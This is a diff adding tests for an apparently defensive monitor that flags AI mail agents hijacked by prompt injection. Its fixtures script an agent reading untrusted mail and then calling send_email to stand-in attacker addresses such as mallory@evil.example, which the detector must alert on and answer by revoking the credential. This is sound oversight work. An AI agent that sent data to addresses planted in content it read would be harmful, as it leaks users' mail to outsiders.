@@ -161,3 +161,132 @@ def test_an_address_value_anywhere_or_a_value_from_another_server_fires() -> Non
     [b] = alerts(feed(eng2, *other))
     assert b.details["egress"] == "source" and "another server" in b.reason
     assert "mia_li" not in b.reason and "ZFA04Y" not in b.reason
+
+
+# ------------------------------------------------ the alert, word for word (mutation tests)
+
+
+def _injected(window: int = 10, gap: int = 1) -> list[Any]:
+    """search (request), two untrusted reads (eve, then mallory), ``gap`` searches, then a send
+    to eve with mallory in its body; session s1, task t1, credential c1."""
+    kw: dict[str, Any] = {"session_id": "s1", "task_id": "t1", "credential_id": "c1"}
+    out = [call(0, AGENT, "mail", "search_inbox", args={"q": "r"}, **kw)]
+    out.append(call(1, AGENT, "mail", "read_email", args={"id": "m1"},
+                    result_digests=value_digests("from eve.h4x@freemail.example"), **kw))  # fmt: skip
+    out.append(call(2, AGENT, "mail", "read_email", args={"id": "m2"},
+                    result_digests=value_digests("cc mallory@evil.example"), **kw))  # fmt: skip
+    for i in range(gap):
+        out.append(call(3 + i, AGENT, "mail", "search_inbox", args={"q": f"x{i}"}, **kw))
+    out.append(call(10, AGENT, "mail", "send_email", **kw,
+                    args={"to": "eve.h4x@freemail.example", "body": "cc mallory@evil.example"}))  # fmt: skip
+    return out
+
+
+def test_the_alert_names_keys_reasons_window_and_distance_exactly() -> None:
+    events = _injected()
+    d = feed(engine(provenance_window_calls=10), *events)
+    [a] = alerts(d)
+    assert a.reason == (
+        "agent:mail-1 called mail/send_email with 2 value(s) in argument(s) 'body', 'to' that "
+        "first appeared in the result of 2 call(s) it had just made, not in its request or "
+        "history (egress because: a destination argument; read from another server or "
+        "untrusted content): a destination taken from content it read (prompt injection)"
+    )
+    assert a.clause.key == "hijack.provenance_window_calls"
+    assert a.clause.text == "an egress argument must not come from what the last 10 calls read"
+    assert a.evidence == [events[1].event_id, events[2].event_id, events[-1].event_id]
+    # the send is call 5, the newest read it used call 3
+    assert a.details == {"values": 2, "arguments": "body,to", "calls_back": 2,
+                         "egress": "argument,source"}  # fmt: skip
+    assert (a.task_id, a.session_id, a.score) == ("t1", "s1", 1.0)
+    [cmd] = d.revocations
+    assert (cmd.scope, cmd.credential_ids) == ("credential", ["c1"])
+
+
+def test_every_injected_send_is_its_own_alert() -> None:
+    """Two sends to the read address are two findings (dedup by the call), not one."""
+    events = _injected()
+    again = events[-1].model_copy(update={"event_id": "send-2"})
+    assert len(alerts(feed(engine(), *events, again))) == 2
+
+
+def test_a_long_argument_name_is_cut_to_256_characters_in_the_details() -> None:
+    key = "to_" + "x" * 300
+    events = _injected()
+    events[-1] = events[-1].model_copy(update={"args": {key: "eve.h4x@freemail.example"}})
+    [a] = alerts(feed(engine(), *events))
+    assert a.details["arguments"] == key[:256]
+
+
+def test_a_read_exactly_window_calls_back_counts_while_older_ones_are_dropped() -> None:
+    """Call 1 carried a result too, so the window is pruned at the send (call 10, window 8):
+    call 2 (10 - 8) stays in it and fires; with one more call it is gone."""
+
+    def run(gap: int) -> list[Any]:
+        events = session({"q": "r"}, "eve.h4x@freemail.example", gap=gap)
+        first = value_digests("ref bob@corp.example")
+        assert first
+        events[0] = events[0].model_copy(update={"result_digests": first})
+        return alerts(feed(engine(), *events))
+
+    assert len(run(7)) == 1
+    assert run(8) == []
+
+
+def test_the_first_call_of_a_session_is_not_learned_as_history() -> None:
+    """A session's first call stands in for the user's request: it is exempt from the check
+    and does not become the agent's own history of destinations, not even the values beyond
+    the 32 it keeps as the request, so a later session that reads eve's address and sends to
+    it still fires."""
+    eng = engine()
+    many = [f"x{i}@corp.example" for i in range(32)] + ["eve.h4x@freemail.example"]
+    only = call(-500, AGENT, "mail", "send_email", session_id="s0", args={"to": many})
+    assert len(alerts(feed(eng, only, *session({"q": "r"}, "eve.h4x@freemail.example")))) == 1
+
+
+def test_recent_reads_from_an_earlier_version_without_a_source_still_count() -> None:
+    """A snapshot whose recent results carry no source (3 items) neither crashes the detector
+    nor hides a destination argument."""
+    eng = engine()
+    events = session({"q": "r"}, "eve.h4x@freemail.example")
+    feed(eng, *events[:-1])
+    recent = eng.states[AGENT].behav[DETECTOR][2]
+    recent[:] = [r[:3] for r in recent]
+    [a] = alerts(feed(eng, events[-1]))
+    assert a.details["egress"] == "argument"
+
+
+def test_an_untrusted_read_on_the_same_server_is_foreign_content() -> None:
+    """An id read from a ``read_untrusted`` call counts as egress (the reason says so) even
+    when it goes back to that call's own server in an argument that names no destination."""
+    s = "u1"
+    events = [
+        call(0, AGENT, "mail", "search_inbox", session_id=s, args={"q": "mine"}),
+        call(1, AGENT, "mail", "read_email", session_id=s, args={"id": "m1"},
+             result_digests=value_digests(RESERVATION)),
+        call(2, AGENT, "mail", "send_email", session_id=s,
+             args={"subject": "about ZFA04Y", "body": "ok"}),
+    ]  # fmt: skip
+    [a] = alerts(feed(engine(), *events))
+    assert a.details["egress"] == "source" and a.details["arguments"] == "subject"
+
+
+def _recent_reads(sizes: list[int], target: int) -> list[Any]:
+    """Fed in order: one read per size (that many addresses each, at most 64 a result), then a
+    send to the first address of read number ``target``."""
+    s = "r1"
+    out = [call(0, AGENT, "mail", "search_inbox", session_id=s, args={"q": "r"})]
+    for i, n in enumerate(sizes):
+        text = " ".join(f"u{j}@g{i}.example" for j in range(n))
+        out.append(call(1 + i, AGENT, "mail", "read_email", session_id=s, args={"id": f"m{i}"},
+                        result_digests=value_digests(text)))  # fmt: skip
+    out.append(call(99, AGENT, "mail", "send_email", session_id=s,
+                    args={"to": f"u0@g{target}.example"}))  # fmt: skip
+    return alerts(feed(engine(), *out))
+
+
+def test_recent_results_keep_the_newest_96_digests_whole_results_at_a_time() -> None:
+    assert len(_recent_reads([1, 64, 31], 0)) == 1  # 96 in all: the oldest is kept
+    assert _recent_reads([40, 64], 0) == []  # 104: the oldest goes, though only two are left
+    assert _recent_reads([1, 50, 50], 1) == []  # 101, then 100: the two oldest go
+    assert len(_recent_reads([10, 46, 41], 1)) == 1  # 97: only the oldest goes
